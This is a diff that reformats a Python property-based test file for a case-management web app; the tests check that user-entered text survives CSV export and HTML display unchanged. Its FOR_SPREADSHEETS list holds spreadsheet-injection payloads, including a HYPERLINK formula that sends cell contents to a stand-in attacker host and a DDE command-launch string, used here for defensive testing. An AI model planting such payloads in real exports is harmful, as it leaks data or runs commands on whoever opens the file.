@@ -29,20 +29,40 @@ from trigger.extensions import db
 from trigger.models import Action, ActionUpdate, Agency, AgencyType, Area, Case, Role
 
 FOR_SPREADSHEETS = [
-    '=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)", "=",
-    '"', '","', ",", ";", "\n", "\r\n", "\r", '""quoted""', "a,b\nc,d",
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-1+1",
+    "@SUM(1+1)",
+    "=",
+    '"',
+    '","',
+    ",",
+    ";",
+    "\n",
+    "\r\n",
+    "\r",
+    '""quoted""',
+    "a,b\nc,d",
 ]
 
 
 def spreadsheet_text(max_size: int):
     piece = st.one_of(st.sampled_from(HOSTILE + FOR_SPREADSHEETS), st.text(st.characters(codec="utf-8"), max_size=12))
     lead = st.sampled_from(["", "", "=", "+", "-", "@"])  # often, text a spreadsheet would take for a formula
-    return (st.tuples(lead, st.lists(piece, min_size=1, max_size=4).map("".join)).map("".join)
-            .map(lambda s: s[:max_size]).filter(lambda s: s.strip() and "\x00" not in s))
+    return (
+        st.tuples(lead, st.lists(piece, min_size=1, max_size=4).map("".join))
+        .map("".join)
+        .map(lambda s: s[:max_size])
+        .filter(lambda s: s.strip() and "\x00" not in s)
+    )
 
 
-HYPOTHESIS = settings(max_examples=25, deadline=None, derandomize=True,
-                      suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
+HYPOTHESIS = settings(
+    max_examples=25,
+    deadline=None,
+    derandomize=True,
+    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
+)
 _unique = count(1)
 
 
@@ -76,8 +96,13 @@ def signed_in(app, user):
 @pytest.fixture
 def people(app, make_user, make_area, make_agency):
     police = make_agency("Test Police", AgencyType.POLICE)
-    return {"area": make_area("Testbury"), "police": police, "coordinator": make_user(Role.COORDINATOR),
-            "admin": make_user(Role.ADMIN), "rep": make_user(Role.AGENCY_REP, agency=police)}
+    return {
+        "area": make_area("Testbury"),
+        "police": police,
+        "coordinator": make_user(Role.COORDINATOR),
+        "admin": make_user(Role.ADMIN),
+        "rep": make_user(Role.AGENCY_REP, agency=police),
+    }
 
 
 @given(name=spreadsheet_text(110))
@@ -92,7 +117,8 @@ def test_an_applicant_s_name_comes_back_verbatim_in_the_case_list_export(app, pe
     assert case.applicant_name == name.strip()  # the form trims the ends, nothing else
     rows = csv_rows(client.get(f"/cases/export.csv?q={case.reference}"))
     assert [row["Applicant"] for row in rows if row["Reference"] == case.reference] == [
-        as_spreadsheet(case.applicant_name)]
+        as_spreadsheet(case.applicant_name)
+    ]
     assert_shown_safely(client.get(f"/cases?q={case.reference}").get_data(as_text=True), case.applicant_name)
 
 
@@ -101,10 +127,16 @@ def test_an_applicant_s_name_comes_back_verbatim_in_the_case_list_export(app, pe
 def test_an_action_description_comes_back_verbatim_in_the_plan_and_my_actions_exports(app, people, description):
     case = make_case(people["area"], people["police"])
     client = signed_in(app, people["coordinator"])
-    response = submit(client, f"/cases/{case.id}/plan/actions/new", {
-        "description": description, "owner_agency_id": str(people["police"].id), "priority": "low",
-        "due_on": (date.today() + timedelta(days=7)).isoformat(),
-    })
+    response = submit(
+        client,
+        f"/cases/{case.id}/plan/actions/new",
+        {
+            "description": description,
+            "owner_agency_id": str(people["police"].id),
+            "priority": "low",
+            "due_on": (date.today() + timedelta(days=7)).isoformat(),
+        },
+    )
     if response.status_code != 302:
         return
     saved = db.session.scalar(select(Action.description).where(Action.plan.has(case_id=case.id)))
@@ -121,8 +153,11 @@ def test_a_progress_note_comes_back_verbatim_as_the_latest_update(app, people, n
     case = actions_helpers.make_case(people["area"])
     action = actions_helpers.make_action(case, people["police"])
     rep = signed_in(app, people["rep"])
-    response = submit(rep, f"/actions/{action.id}/update",
-                      {"note": note, "status": "in-progress", "reason": "", "version": str(action.version)})
+    response = submit(
+        rep,
+        f"/actions/{action.id}/update",
+        {"note": note, "status": "in-progress", "reason": "", "version": str(action.version)},
+    )
     if response.status_code != 302:
         return
     saved = db.session.scalar(select(ActionUpdate.note).where(ActionUpdate.action_id == action.id))
@@ -140,10 +175,20 @@ def test_agency_and_area_names_come_back_verbatim_in_the_exports(app, people, na
     admin = signed_in(app, people["admin"])
     n = next(_unique)
     typed = f"{name} {n}"  # unique, and the admin forms' own rules are not under test here
-    agency_ok = submit(admin, "/admin/agencies/new", {"name": typed[:160], "agency_type": "housing",
-                                                      "contact_email": "", "active": "y"}).status_code == 302
-    area_ok = submit(admin, "/admin/areas/new", {"name": typed[:120], "nation": "england-and-wales",
-                                                 "active": "y"}).status_code == 302
+    agency_ok = (
+        submit(
+            admin,
+            "/admin/agencies/new",
+            {"name": typed[:160], "agency_type": "housing", "contact_email": "", "active": "y"},
+        ).status_code
+        == 302
+    )
+    area_ok = (
+        submit(
+            admin, "/admin/areas/new", {"name": typed[:120], "nation": "england-and-wales", "active": "y"}
+        ).status_code
+        == 302
+    )
     if not (agency_ok and area_ok):
         return
     agency = db.session.scalar(select(Agency).order_by(Agency.id.desc()).limit(1))
